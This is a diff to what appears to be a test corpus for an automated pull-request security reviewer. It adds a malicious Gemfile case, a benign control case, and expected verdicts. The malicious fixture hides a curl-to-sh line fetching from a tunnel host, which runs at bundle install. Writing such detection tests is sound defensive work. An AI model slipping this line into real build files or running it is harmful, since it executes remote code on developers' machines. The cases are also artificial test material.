@@ -252,6 +252,40 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
   }),
   buildCase({
+    id: 'gemfile-runs-download-at-bundle-install',
+    description: 'A "add rubocop" PR whose Gemfile also pipes a download from a tunnel host into a shell: Bundler evaluates the Gemfile at every bundle install.',
+    number: 7210,
+    repo: 'ledger-web',
+    title: 'Add rubocop to the development group',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'Gemfile',
+        base: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'"),
+        head: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'", "system('curl -s https://gems-mirror.trycloudflare.com/setup | sh')", 'group :development do', "  gem 'rubocop', require: false", 'end'),
+      },
+    ],
+    checks: RUBY_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'gemfile-adds-development-gems',
+    description: 'The same PR as Gemfiles are usually changed: a development group with rubocop and a Ruby version.',
+    number: 7211,
+    repo: 'ledger-web',
+    title: 'Add rubocop to the development group',
+    author: CONTRIBUTOR,
+    files: [
+      {
+        path: 'Gemfile',
+        base: lines("source 'https://rubygems.org'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'"),
+        head: lines("source 'https://rubygems.org'", "ruby '3.3.6'", "gem 'rails', '~> 7.2'", "gem 'pg', '~> 1.5'", 'group :development do', "  gem 'rubocop', '~> 1.69', require: false", 'end'),
+      },
+    ],
+    checks: RUBY_CI,
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  }),
+  buildCase({
     id: 'binding-gyp-pipes-download-to-shell',
     description: 'binding.gyp gains a command expansion that pipes a download to sh while node-gyp configures the addon.',
     number: 7208,
